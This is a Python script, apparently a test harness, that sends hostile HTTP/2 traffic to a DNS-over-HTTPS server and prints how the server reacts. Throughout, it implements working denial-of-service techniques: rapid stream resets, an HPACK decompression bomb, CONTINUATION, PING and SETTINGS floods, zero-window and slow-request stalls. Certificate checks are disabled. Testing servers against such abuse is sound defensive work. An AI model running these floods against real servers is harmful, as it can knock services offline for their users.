#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Clients of DNS over HTTPS that mean ill, frame by frame (RFC 9113).

https-clients.py ADDRESS PORT WHAT: prints what came of it, one line.
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/dns-query?dns=AAABAAABAAAAAAAAA3d3dwZzaWduZWQHZXhhbXBsZQAAAQAB"


def literal(index, value):
    """A field without indexing, whose name is in the static table (RFC 7541 6.2.2)."""
    return bytes([index]) + integer(len(value), 7) + value


def integer(value, bits):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


REQUEST = b"\x82\x87" + literal(1, b"dns.example") + literal(4, PATH)


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!IBBI", len(payload) << 8, kind, flags, stream)[0:3] + struct.pack(
        "!BBI", kind, flags, stream
    ) + payload


class Client:
    def __init__(self, address, port):
        made = ssl.create_default_context()
        made.check_hostname = False
        made.verify_mode = ssl.CERT_NONE
        made.set_alpn_protocols(["h2"])
        self.sock = made.wrap_socket(socket.create_connection((address, port), 5))
        self.got = b""
        self.open = True
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.open = False

    def frames(self, wait_s):
        """What comes until nothing has for so long, or the connection ends."""
        self.sock.settimeout(wait_s)
        while True:
            while len(self.got) >= 9 and len(self.got) >= 9 + int.from_bytes(self.got[:3], "big"):
                size = int.from_bytes(self.got[:3], "big")
                yield self.got[3], self.got[4], int.from_bytes(self.got[5:9], "big"), self.got[9 : 9 + size]
                self.got = self.got[9 + size :]
            try:
                data = self.sock.recv(65536)
            except TimeoutError:
                return
            except OSError:
                data = b""
            if not data:
                self.open = False
                return
            self.got += data


def end_of(client, wait_s=1.0):
    """How the server ends a connection: by which error, or not at all."""
    said = ""
    for kind, _, _, payload in client.frames(wait_s):
        if kind == GOAWAY:
            said = " with error %d" % int.from_bytes(payload[4:8], "big")
    return ("open" if client.open else "closed") + said


def rapid_reset(address, port):
    client = Client(address, port)
    for i in range(40):
        client.send(
            b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, REQUEST)
                + frame(RST_STREAM, 0, 2 * n + 1, b"\0\0\0\x08")
                for n in range(i * 50, i * 50 + 50)
            )
        )
        if not client.open:
            break
    return end_of(client)


def many_streams(address, port):
    """More at a time than are allowed, none of them ended."""
    client = Client(address, port)
    client.send(b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, REQUEST) for n in range(300)))
    refused = sum(1 for kind, _, _, _ in client.frames(1.0) if kind == RST_STREAM)
    return "%d refused" % refused if client.open else "closed"


def bomb(address, port):
    """A field of 4000 bytes in the table, and then named a thousand times (RFC 7541 7.3)."""
    client = Client(address, port)
    big = b"\x40" + integer(5, 7) + b"x-big" + integer(3900, 7) + b"a" * 3900
    client.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, REQUEST + big + b"\xbe" * 4000))
    client.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, REQUEST))
    answered = {}
    for kind, _, stream, _ in client.frames(1.0):
        answered.setdefault(stream, kind)
    return "bomb %s, next %s" % (
        "reset" if answered.get(1) == RST_STREAM else "?",
        "answered" if answered.get(3) == HEADERS else end_of(client),
    )


def pings(address, port):
    """Whoever pings is not idle for himself, and is for us."""
    client = Client(address, port)
    began = time.monotonic()
    while client.open and time.monotonic() - began < 15:
        client.send(frame(PING, 0, 0, b"12345678"))
        end_of(client, 0.1)
    return "closed after %.1f" % (time.monotonic() - began) if not client.open else "still open"


def continuation(address, port):
    """Headers without an end."""
    client = Client(address, port)
    client.send(frame(HEADERS, END_STREAM, 1, REQUEST))
    for _ in range(2000):
        client.send(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 20))
        if not client.open:
            break
    return end_of(client)


def no_window(address, port):
    """Takes no byte of any response."""
    client = Client(address, port)
    client.send(frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"))
    began = time.monotonic()
    for n in range(50):
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, REQUEST))
    while client.open and time.monotonic() - began < 15:
        end_of(client, 0.5)
    return "closed after %.1f" % (time.monotonic() - began) if not client.open else "still open"


def alternating(address, port):
    """Waits for one answer at a time: the same connection serves on."""
    client = Client(address, port)
    count = 0
    for n in range(300):
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, REQUEST))
        for kind, flags, stream, _ in client.frames(3.0):
            if kind == DATA and stream == 2 * n + 1 and flags & END_STREAM:
                count += 1
                break
        if count != n + 1:
            break
    return "answered %d" % count


def until_closed(client, act):
    """Do that over and over, as long as the server lets us."""
    began = time.monotonic()
    while client.open and time.monotonic() - began < 20:
        act()
        end_of(client, 0.2)
    return "closed after %.1f" % (time.monotonic() - began) if not client.open else "still open"


def slow_post(address, port):
    """A message, a byte at a time."""
    client = Client(address, port)
    head = b"\x83\x87" + literal(1, b"dns.example") + literal(4, b"/dns-query")
    client.send(frame(HEADERS, END_HEADERS, 1, head))
    return until_closed(client, lambda: client.send(frame(DATA, 0, 1, b"\0")))


def no_data(address, port):
    """A message of which nothing comes, in frames without end."""
    client = Client(address, port)
    client.send(frame(HEADERS, END_HEADERS, 1, b"\x83\x87" + literal(4, b"/dns-query")))
    return until_closed(client, lambda: client.send(frame(DATA, 0, 1) * 1000))


def slow_head(address, port):
    """A request's header that does not end."""
    client = Client(address, port)
    client.send(frame(HEADERS, 0, 1, REQUEST))
    return until_closed(client, lambda: None)


def settings(address, port):
    """Has the server acknowledge, and takes nothing of it."""
    client = Client(address, port)
    client.sock.settimeout(5)
    for _ in range(400):
        client.send(frame(SETTINGS, 0, 0) * 500)
    return end_of(client, 5.0)


def no_request(address, port):
    """Frames that mean nothing to us: of an unknown kind, and of priority."""
    client = Client(address, port)
    return until_closed(
        client, lambda: client.send(frame(0x77, 0, 0, b"x" * 100) * 100 + frame(2, 0, 5, b"\0\0\0\0\x10") * 100)
    )


address, port, what = sys.argv[1], int(sys.argv[2]), sys.argv[3]
print(globals()[what](address, port))
